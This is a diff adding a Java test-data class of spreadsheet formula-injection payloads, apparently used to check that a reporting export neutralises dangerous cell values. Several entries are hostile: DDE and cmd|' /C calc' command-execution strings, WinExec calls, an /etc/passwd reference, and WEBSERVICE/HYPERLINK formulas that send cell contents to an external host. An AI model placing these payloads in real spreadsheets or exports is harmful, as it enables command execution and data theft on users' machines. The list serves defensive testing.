@@ -1,0 +1,67 @@
+package io.nightcondor.reporting.safety;
+
+import java.util.List;
+
+/** What a spreadsheet could take for a formula. */
+final class FormulaPayloads {
+
+  static final List<String> TEXTS = List.of(
+      "=1+1",
+      "+1+1",
+      "-2+3",
+      "@SUM(A1:A9)",
+      "\t=1+1",
+      "\r=1+1",
+      "\n=1+1",
+      "\0=1+1",
+      "\r\n=1+1",
+      " =1+1",
+      "   +1+1",
+      "\u00A0=1+1",
+      "\u3000=1+1",
+      "\uFEFF=1+1",
+      "\u200B=1+1",
+      "'=1+1",
+      "''=1+1",
+      "\"=1+1\"",
+      "\"\"=1+1",
+      "\uFF1D1\uFF0B1",
+      "\uFF0B1\uFF0B1",
+      "\uFF0D2\uFF0B3",
+      "\uFF20SUM(A1:A9)",
+      "\u22122+3",
+      "\uFE632+3",
+      "\uFE66SUM(A1)",
+      "\uFE6BSUM(A1)",
+      "=cmd|' /C calc'!A0",
+      "+cmd|' /C calc'!A0",
+      "-cmd|' /C calc'!A0",
+      "@cmd|' /C calc'!A0",
+      "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+      "DDE(\"cmd\";\"/C calc\";\"x\")",
+      "=DDE(\"cmd\",\"/C calc\",\"x\")",
+      "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+      "=HYPERLINK(\"" + Payloads.HOST + "/?\"&A1,\"click\")",
+      "=WEBSERVICE(\"" + Payloads.HOST + "/?\"&A1)",
+      "=IMPORTXML(\"" + Payloads.HOST + "\",\"//a\")",
+      "=IMAGE(\"" + Payloads.HOST + "/x.png\")",
+      "=FILTERXML(WEBSERVICE(\"" + Payloads.HOST + "\"),\"//x\")",
+      "='file:///etc/passwd'#$passwd.A1",
+      "=INDIRECT(\"'[\\\\canary.invalid\\x.xlsx]S'!A1\")",
+      "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+      "=EXEC(\"calc\")",
+      "=REGISTER.ID(\"x\",\"y\")",
+      "{=1+1}",
+      "=1+1;=2+2",
+      "a;=1+1",
+      "a\t=1+1",
+      "a\",=1+1,\"",
+      "a\n=1+1",
+      "1e5",
+      "-5",
+      "#REF!",
+      "%0A=1+1",
+      "=-+-+1+cmd|' /C calc'!A0");
+
+  private FormulaPayloads() {}
+}
